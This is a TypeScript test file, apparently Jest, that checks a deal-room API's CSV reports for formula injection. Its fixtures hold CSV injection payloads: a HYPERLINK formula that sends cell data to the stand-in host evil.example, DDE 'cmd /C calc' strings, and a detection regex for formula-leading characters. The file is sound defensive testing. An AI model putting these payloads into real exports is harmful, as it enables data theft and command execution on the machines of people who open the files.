import { parse } from 'csv-parse/sync';
import { DealRoomApi, freshId, tokenFor } from '../projections/support/deal-room-api';

// What an attack on the running product put into names, and what a spreadsheet would have run.
const COMPANY = '=HYPERLINK("https://evil.example/?x="&B2,"Open")';
const ROUND_NAME = "@SUM(1+1)*cmd|' /C calc'!A0";
const INVESTOR_NAME = "+1+cmd|' /C calc'!A0";
// Correlation ids are kept to letters, digits and . _ : -, yet may start with a minus (ids may not).
const CORRELATION_ID = '-2-3';

// Any cell a spreadsheet would evaluate: = + - @ (or their full-width forms) first, maybe after blanks.
// eslint-disable-next-line no-control-regex -- control characters before a formula are what the rule must catch
const FORMULA = /^[\s\u0000-\u001f]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/;
const NUMBER = /^-?\d+(\.\d+)?$/;

function cellsOf(text: string): string[] {
  return (parse(text, { relax_column_count: false }) as string[][]).flat();
}

/** The cells that a spreadsheet would run as formulas (numbers are numbers, not formulas). */
const runnable = (text: string) => cellsOf(text).filter((cell) => FORMULA.test(cell) && !NUMBER.test(cell));

describe('every CSV the product writes, against formula injection', () => {
  let api: DealRoomApi;
  let roundId: string;
  let investorId: string;
  let position: string;

  beforeAll(async () => {
    api = await DealRoomApi.start();
    ({ roundId } = await api.openRound({ company: COMPANY, name: ROUND_NAME }));
    investorId = freshId('investor');
    const admitted = await api.http
      .post(`/rounds/${roundId}/investors`)
      .set(await tokenFor('deal-lead'))
      .set('X-Correlation-Id', CORRELATION_ID)
      .send({ investorId, name: INVESTOR_NAME, tier: 'lead' });
    expect(admitted.status).toBe(201);
    position = await api.commit(roundId, investorId, '1000000.00');
  });

  afterAll(() => api?.close());

  async function csv(path: string, role: 'auditor' | 'investor' = 'auditor'): Promise<string> {
    const response = await api.get(path, role, role === 'investor' ? investorId : undefined);
    expect(response.status).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    return response.text;
  }

  it('GET /reports/rounds?format=csv shows the company and the round name as typed, not as formulas', async () => {
    const text = await csv(`/reports/rounds?format=csv&company=${encodeURIComponent(COMPANY)}&minPosition=${position}`);

    const [row] = parse(text, { columns: true }) as Record<string, string>[];
    expect(row).toMatchObject({ roundId, company: `'${COMPANY}`, name: `'${ROUND_NAME}` });
    expect(runnable(text)).toEqual([]);
  });

  it("GET /reports/rounds/:id/allocations?format=csv shows the investor's name as typed", async () => {
    const text = await csv(`/reports/rounds/${roundId}/allocations?format=csv&minPosition=${position}`);

    const rows = parse(text, { columns: true }) as Record<string, string>[];
    expect(rows[0]).toMatchObject({ row: 'investor', investorId, investorName: `'${INVESTOR_NAME}`, committed: '1000000.00' });
    expect(runnable(text)).toEqual([]);
  });

  it('GET /reports/investors/:id?format=csv shows the company and the round name as typed', async () => {
    // The wait is the auditor's: an investor may give only a sealed position (issue 14).
    await csv(`/reports/investors/${investorId}?format=csv&minPosition=${position}`);
    const text = await csv(`/reports/investors/${investorId}?format=csv`, 'investor');

    const [row] = parse(text, { columns: true }) as Record<string, string>[];
    expect(row).toMatchObject({ roundId, roundName: `'${ROUND_NAME}`, company: `'${COMPANY}` });
    expect(runnable(text)).toEqual([]);
  });

  it("GET /rounds/:id/history?format=csv shows a caller's correlation id as sent", async () => {
    const text = await csv(`/rounds/${roundId}/history?format=csv`);

    const rows = parse(text, { columns: true }) as Record<string, string>[];
    expect(rows.map((row) => row.correlationId)).toContain(`'${CORRELATION_ID}`);
    expect(runnable(text)).toEqual([]);
  });
});
